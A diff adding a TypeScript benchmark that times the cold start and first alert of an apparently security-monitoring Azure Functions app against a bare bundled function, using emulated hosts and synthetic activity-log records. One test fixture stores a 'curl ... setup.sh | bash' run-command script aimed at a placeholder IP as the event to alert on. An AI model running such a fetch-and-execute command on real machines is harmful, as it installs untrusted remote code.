@@ -1,0 +1,75 @@
+import { build } from 'esbuild'
+import { mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { startFunctionsHost } from '../../emulators/functions-host'
+import { activityLogRecord, message, uuid, vmId } from '../../support/azure-events'
+import { startAzureWorld, type AzureWorld } from '../../support/azure-world'
+
+const repository = join(__dirname, '..', '..', '..')
+
+const median = (values: readonly number[]): number => values.toSorted((a, b) => a - b)[values.length >> 1] ?? Number.NaN
+
+export interface ColdStartFigures {
+  readonly appMs: number
+  readonly bareMs: number
+  readonly ratio: number
+}
+
+/** Bundles the bare function the way scripts/build.mjs bundles the app. */
+const bundleBare = async (folder: string): Promise<string> => {
+  const outfile = join(folder, 'index.js')
+  await build({
+    entryPoints: [join(__dirname, 'bare-function.ts')],
+    absWorkingDir: repository,
+    outfile,
+    bundle: true,
+    platform: 'node',
+    target: 'node22',
+    format: 'cjs',
+    mainFields: ['module', 'main'],
+    minify: true,
+    legalComments: 'none',
+    logLevel: 'error',
+    alias: { '@aws-sdk/credential-provider-node': './functions/azure/sns/no-default-credentials.ts' },
+    banner: { js: "const importMetaUrl = require('node:url').pathToFileURL(__filename).href;" },
+    define: { 'import.meta.url': 'importMetaUrl' },
+    external: ['@azure/functions-core'],
+  })
+  return outfile
+}
+
+/** Milliseconds from the start of an instance's process to the end of its first invocation. */
+const firstAlert = async (world: AzureWorld, entry: string, number: number): Promise<number> => {
+  const resourceId = `${vmId(`vm-${number}`)}/runCommands/update`
+  world.arm.resources.set(resourceId.toLowerCase(), { properties: { source: { script: 'curl -s http://203.0.113.9/setup.sh | bash' } } })
+  const record = activityLogRecord({ operation: 'Microsoft.Compute/virtualMachines/runCommands/write', resourceId, person: number, user: `user${number}@example.com`, correlationId: uuid(number) })
+  const begun = performance.now()
+  const host = await startFunctionsHost({ entry, env: { ...world.settings, BARE_RESOURCE: resourceId } })
+  const result = await host.invokeEventHub('activityLog', [message(record)], { maxRetryCount: 5 })
+  const elapsed = performance.now() - begun
+  await host.stop()
+  if (!result.ok) throw new Error(result.error.stack)
+  return elapsed
+}
+
+/** Start and first alert of the app, over those of a bare function that makes the same calls; in turns. */
+export const measureColdStart = async (turns: number): Promise<ColdStartFigures> => {
+  const folder = mkdtempSync(join(tmpdir(), 'bare-'))
+  const world = await startAzureWorld({ RUNWARDEN_DIGEST_TOPIC_ARN: '' })
+  try {
+    const entries = { bare: await bundleBare(folder), app: join(repository, 'dist', 'azure', 'index.js') }
+    const [app, bare]: [number[], number[]] = [[], []]
+    for (let turn = 0; turn <= turns; turn++) {
+      const [bareMs, appMs] = [await firstAlert(world, entries.bare, 10_000 + turn), await firstAlert(world, entries.app, 20_000 + turn)]
+      // The first pair fills the caches of the machine.
+      if (turn === 0) continue
+      bare.push(bareMs)
+      app.push(appMs)
+    }
+    return { appMs: median(app), bareMs: median(bare), ratio: median(app.map((ms, turn) => ms / (bare[turn] ?? Number.NaN))) }
+  } finally {
+    await world.stop()
+    rmSync(folder, { recursive: true })
+  }
+}
